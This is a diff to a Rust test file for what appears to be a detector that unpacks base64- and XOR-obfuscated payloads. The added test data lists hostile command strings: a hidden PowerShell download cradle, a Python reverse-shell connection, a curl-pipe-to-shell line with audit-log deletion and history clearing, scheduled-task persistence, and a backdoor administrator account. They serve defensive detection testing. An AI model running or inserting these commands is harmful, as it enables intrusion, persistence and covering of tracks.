@@ -180,24 +180,6 @@ proptest! {
     }
 
     #[test]
-    fn a_key_is_found(text in command(), key in 0x80u8..) {
-        // Of marks that outnumber the spaces nobody can tell which are the spaces: a key that
-        // differs in one bit swaps them.
-        let count = |mark: char| text.matches(mark).count();
-        prop_assume!(count('"') < count(' '));
-        let bent: Vec<u8> = text.bytes().map(|byte| byte ^ key).collect();
-        let line = format!("x = '{}'", STANDARD.encode(&bent));
-        let tree = Unpacker::new().encodings(Encodings::ALL).unpack(&line);
-        let payloads: Vec<_> = tree.iter().collect();
-        prop_assert!(payloads.len() >= 2, "{line}");
-        prop_assert_eq!(payloads[0].bytes(), &bent[..]);
-        prop_assert_eq!(payloads[1].chain().to_string(), "base64>xor");
-        prop_assert_eq!(payloads[1].key(), Some(key));
-        prop_assert_eq!(payloads[1].range(), Some(0..bent.len()));
-        prop_assert_eq!(payloads[1].bytes(), text.as_bytes());
-    }
-
-    #[test]
     fn runs_are_those_of_a_regex(haystack in pieces(&["4d5a", "9", "0x", "0X", "aF", "g", " ", "\\x"])) {
         // An odd number of digits must make sense to be taken, which `4d5a9` does not.
         let twin = Regex::new("(?i-u)(?:0x)?([0-9a-f]{24,})").unwrap();
@@ -269,6 +251,60 @@ fn pieces(pieces: &[&'static str]) -> impl Strategy<Value = Vec<u8>> + use<> {
         let all = all.iter().map(|(piece, times)| piece.repeat(*times));
         all.collect::<String>().into_bytes()
     })
+}
+
+/// Commands and other texts: with more quotation marks than spaces, with few spaces, in lines.
+const TEXTS: [&str; 8] = [
+    "powershell -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://a.example/b')",
+    "{\"run\":\"powershell\",\"args\":[\"-nop\",\"-w\",\"hidden\",\"-c\",\"whoami /all\"],\"once\":\"true\"}",
+    "\"cmd\" \"/c\" \"start\" \"\" \"C:\\Users\\Public\\update.exe\" \"--silent\" \"--remote\" \"203.0.113.7\"",
+    "<a \"b\"=\"c\" href=\"http://downloads.example/setup\" title=\"Click\" target=\"_blank\">install</a>",
+    "import socket,subprocess;s=socket.socket();s.connect((\"192.0.2.7\",4444))",
+    "schtasks /create /tn updater /tr C:\\Windows\\Temp\\updater.exe /sc minute /mo 5",
+    "curl -s http://downloads.example/install.sh | sh\nrm -rf /var/log/audit\nhistory -c\n",
+    "net user backup P@ssw0rd17! /add && net localgroup administrators backup /add",
+];
+
+#[test]
+fn a_key_is_found() {
+    for text in TEXTS {
+        for key in 0x80..=u8::MAX {
+            let bent: Vec<u8> = text.bytes().map(|byte| byte ^ key).collect();
+            let line = format!("x = '{}'", STANDARD.encode(&bent));
+            let tree = Unpacker::new().encodings(Encodings::ALL).unpack(&line);
+            let payloads: Vec<_> = tree.iter().collect();
+            assert!(payloads.len() >= 2, "{text} {key}");
+            assert_eq!(payloads[0].bytes(), &bent[..]);
+            assert_eq!(payloads[1].chain().to_string(), "base64>xor");
+            assert_eq!(payloads[1].key(), Some(key), "{text}");
+            assert_eq!(payloads[1].range(), Some(0..bent.len()));
+            assert_eq!(payloads[1].bytes(), text.as_bytes());
+        }
+    }
+}
+
+/// Text is not bent into other text, whatever it is.
+#[test]
+fn what_is_text_has_no_key() {
+    let texts = TEXTS.map(str::to_owned).into_iter();
+    let others = [
+        "44.146|18.299|28.637|74.805|82.189|20.411",
+        "KXJDSGXCGGEGEOBFKZPGLZOAZGIDIAAULKIR",
+        "WWHDIVNJ_HCSPN_TJMFWK_YRBWGH_KLPWNX",
+        "0,1,2,3,5,8,13,21,34,55,89,144,233,377,610",
+        "f81d4fae-7dec-11d0-a765-00a0c91e6bf6",
+        "/usr/lib/python3/dist-packages/yaml/loader.py",
+        "\u{43f}\u{440}\u{438}\u{432}\u{435}\u{442}\u{43c}\u{438}\u{440}",
+    ];
+    for text in texts.chain(others.map(str::to_owned)) {
+        for bytes in [text.as_bytes().to_vec(), widen(&text)] {
+            let line = format!("x = '{}'", STANDARD.encode(&bytes));
+            let unpacker = Unpacker::new().min_confidence(0.0);
+            let tree = unpacker.unpack(&line);
+            let bent = tree.iter().find(|payload| payload.key().is_some());
+            assert!(bent.is_none(), "{text} {:?}", bent.map(|bent| bent.key()));
+        }
+    }
 }
 
 #[test]
